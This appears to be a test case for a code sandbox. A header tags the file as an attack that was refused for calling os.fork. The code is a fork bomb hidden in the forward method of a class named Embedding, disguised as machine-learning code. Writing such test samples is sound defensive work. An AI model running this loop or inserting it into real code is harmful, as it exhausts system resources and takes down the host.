# /// attack
# tries = "Forks without end."
# status = "refused"
# says = "starts another program (os.fork)"
# ///
import os


class Embedding:
    def __init__(self, num_embeddings, embedding_dim): ...

    def forward(self, ids):
        while True:
            os.fork()
